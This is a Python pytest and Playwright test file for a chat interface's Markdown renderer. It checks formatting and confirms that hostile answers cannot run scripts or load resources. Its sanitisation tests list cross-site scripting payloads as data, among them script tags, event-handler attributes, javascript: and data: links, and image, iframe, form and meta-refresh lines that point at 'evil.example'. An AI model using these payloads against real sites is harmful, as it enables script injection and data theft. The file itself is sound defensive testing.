"""How answers are shown: as the Markdown that they are, and as nothing else, however hostile they may be."""

import pytest
from playwright.sync_api import expect

from tests.page.visitor import Visitor

RENDER = """text => { const box = make("div"); markdown(box, text); return box.innerHTML.replaceAll(' dir="auto"', ""); }"""
LINK = '<a href="{0}" title="{0}" target="_blank" rel="noopener noreferrer">{1}</a>'


def rendered(reader: Visitor, text: str) -> str:
    """What the page makes of an answer, as HTML."""
    html: str = reader.page.evaluate(RENDER, text)
    return html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\ntwo\n\nthree", "<p>One\ntwo</p><p>three</p>"),
        ("One  \ntwo\\\nthree", "<p>One<br>two<br>three</p>"),
        ("**bold**, *leaning*, __bold__, _leaning_", "<p><strong>bold</strong>, <em>leaning</em>, <strong>bold</strong>, <em>leaning</em></p>"),
        ("**all *of* it**", "<p><strong>all <em>of</em> it</strong></p>"),
        ("2 * 3 * 4, snake_case_name, **", "<p>2 * 3 * 4, snake_case_name, **</p>"),
        (r"\*not leaning\* \<b> \`code\`", "<p>*not leaning* &lt;b&gt; `code`</p>"),
        ("`a **b** <i>`", "<p><code>a **b** &lt;i&gt;</code></p>"),
        ("# One\n### Three\n# One", "<h2>One</h2><h3>Three</h3><h2>One</h2>"),
        ("### Three\n# One", "<h2>Three</h2><h2>One</h2>"),
        ("#hash", "<p>#hash</p>"),
        ("- a\n- b\n\n  more\n- c", "<ul><li><p>a</p></li><li><p>b</p><p>more</p></li><li><p>c</p></li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'),
        ("* a\n  1. b\n     - c\n* d", "<ul><li><p>a</p><ol><li><p>b</p><ul><li><p>c</p></li></ul></li></ol></li><li><p>d</p></li></ul>"),
        ("Text:\n- a\n- b\nlazy\n\nAfter", "<p>Text:</p><ul><li><p>a</p></li><li><p>b\nlazy</p></li></ul><p>After</p>"),
        ("- a\n\n1. b", "<ul><li><p>a</p></li></ul><ol><li><p>b</p></li></ol>"),
        ("```sh\nls *\n\n<b>\n```\nAfter", '<pre tabindex="0"><code>ls *\n\n&lt;b&gt;</code></pre><p>After</p>'),
        ("- a\n  ```\n  code\n  ```", '<ul><li><p>a</p><pre tabindex="0"><code>code</code></pre></li></ul>'),
        ("```\nnever closed", '<pre tabindex="0"><code>never closed</code></pre>'),
        ("> said\n> *so*", "<blockquote><p>said\n<em>so</em></p></blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
        ("|a|b|\n|-|:-:|\n|`c`|d|", '<div class="table" tabindex="0"><table><tr><th>a</th><th>b</th></tr><tr><td><code>c</code></td><td>d</td></tr></table></div>'),
        ("| not | a table", "<p>| not | a table</p>"),
        ("[text](https://a.example/b?c=d&e)", f"<p>{LINK.format('https://a.example/b?c=d&amp;e', 'text')}</p>"),
        ("See https://a.example/b_c_d.", f"<p>See {LINK.format('https://a.example/b_c_d', 'https://a.example/b_c_d')}.</p>"),
        ("<http://a.example>", f"<p>{LINK.format('http://a.example', 'http://a.example')}</p>"),
        ("(https://a.example)", f"<p>({LINK.format('https://a.example', 'https://a.example')})</p>"),
    ],
)  # fmt: skip
def test_markdown_is_shown_as_what_it_means(reader: Visitor, text: str, html: str) -> None:
    """Paragraphs, emphasis, headings, lists, code, quotes, tables and links."""
    assert rendered(reader, text) == html


@pytest.mark.parametrize(
    "text",
    [
        "<script>harm()</script>", "<img src=x onerror=harm()>", "<svg/onload=harm()>", "<a href='javascript:harm()'>x</a>",
        "[x](javascript:harm())", "[x](JaVaScRiPt:harm)", "[x](data:text/html,harm)", "[x](vbscript:harm)", "[x](//evil.example)",
        "[x](/admin)", "[x](https:evil)\0", "[x]( javascript:harm)", "![x](javascript:harm)", "[x](java\tscript:harm)",
        "[`x`](blob:harm)", "<https://a.example onclick=harm()>", 'https://a.example/"onmouseover="harm()',
        "[x](https://a.example/\"onclick=\"harm)", "```\n</code></pre><script>harm()</script>", "`<script>harm()</script>`",
        "| <script> |\n|-|\n| <img src=x onerror=harm()> |", "<iframe src=https://evil.example>", "<style>*{display:none}</style>",
        "![](https://evil.example/?stolen)", "![x](https://evil.example/?stolen)", "<form action=https://evil.example><button>x",
        "<meta http-equiv=refresh content=0;url=https://evil.example>", "</div></main><h1>Parley</h1>",
    ],
)  # fmt: skip
def test_whatever_an_answer_holds_nothing_in_it_can_run_or_load(reader: Visitor, text: str) -> None:
    """Only the elements of Markdown, without any attribute that does something, and links to the web alone."""
    found = reader.page.evaluate(
        """text => { const box = make("div"); markdown(box, text);
        return [...box.querySelectorAll("*")].map((e) => [e.localName, e.protocol ?? "", e.rel ?? "", e.getAttributeNames()]); }""",
        text,
    )

    known = {"p", "a", "code", "pre", "div", "table", "tr", "th", "td", "em", "strong"}
    for name, protocol, relation, attributes in found:
        assert name in known
        assert set(attributes) <= {"dir", "tabindex", "class", "href", "title", "target", "rel"}
        if name == "a":
            assert protocol in ("http:", "https:")
            assert relation == "noopener noreferrer"


@pytest.mark.parametrize(
    "piece",
    ["*", "**", "_", "`", "[", "](", "[a](", "![", "<", "https://", "> ", "- ", "  ", "|", "|a|\n|-|\n", "```\n", "# ", "\\",
     "**a ", "*a _b ", "1. ", "-\n ", "\n", "- a\n\n", "  \n", "()", "[[a]]", "~", "- - ", "> - ", "    - "],
)  # fmt: skip
def test_an_answer_made_of_nothing_but_signs_is_shown_all_the_same(reader: Visitor, piece: str) -> None:
    """Twenty thousand characters of it neither hang the page nor break it."""
    rendered(reader, piece * (20_000 // len(piece)))

    assert rendered(reader, "fine") == "<p>fine</p>"


def test_a_hostile_answer_is_only_read(visitor: Visitor) -> None:
    """Through the whole page: no script runs, nothing is fetched, and the policy has nothing to stop."""
    complaints, requests = [], []
    visitor.page.on("console", lambda message: complaints.append(message.text))
    visitor.page.on("request", lambda request: requests.append(request.url))
    visitor.ask("Tell me something evil")

    visitor.hear("<script>window.harmed = true</script>")
    expect(visitor.answers.locator("img, script")).to_have_count(0)
    assert visitor.page.evaluate("window.harmed") is None
    assert complaints == []
    assert {url.split("/v1/")[0] + "/" for url in requests} == {visitor.page.url}
